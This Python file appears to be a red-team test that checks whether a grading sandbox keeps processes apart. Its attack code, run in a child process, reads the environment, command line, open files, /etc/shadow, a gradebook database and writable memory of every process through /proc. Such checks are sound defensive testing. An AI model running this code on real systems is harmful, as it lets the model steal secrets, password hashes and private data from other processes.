"""In the child, the memory, environment and files of all other processes are read.

Success: any canary but that of the test in the child.
"""

from tests.red_team.submission import SHOW

ALONE = True


def attack(submission):
    submission.in_child(
        """
        import glob
        for place in ("environ", "cmdline", "maps", "root/etc/shadow", "cwd/gradebook.db", "fd/*"):
            for path in glob.glob(f"/proc/[0-9]*/{place}"):
                try:
                    with open(path, "rb") as file:
                        show(file.read(1 << 20))
                except OSError:
                    pass
        for path in glob.glob("/proc/[0-9]*/mem"):
            try:
                with open(path.replace("/mem", "/maps")) as maps, open(path, "rb") as memory:
                    for line in maps:
                        begin, end = (int(part, 16) for part in line.split()[0].split("-"))
                        if "rw" in line and "[v" not in line and end - begin < 1 << 26:
                            memory.seek(begin)
                            show(memory.read(end - begin))
            except (OSError, ValueError, OverflowError):
                pass
        """,
        SHOW,
    )
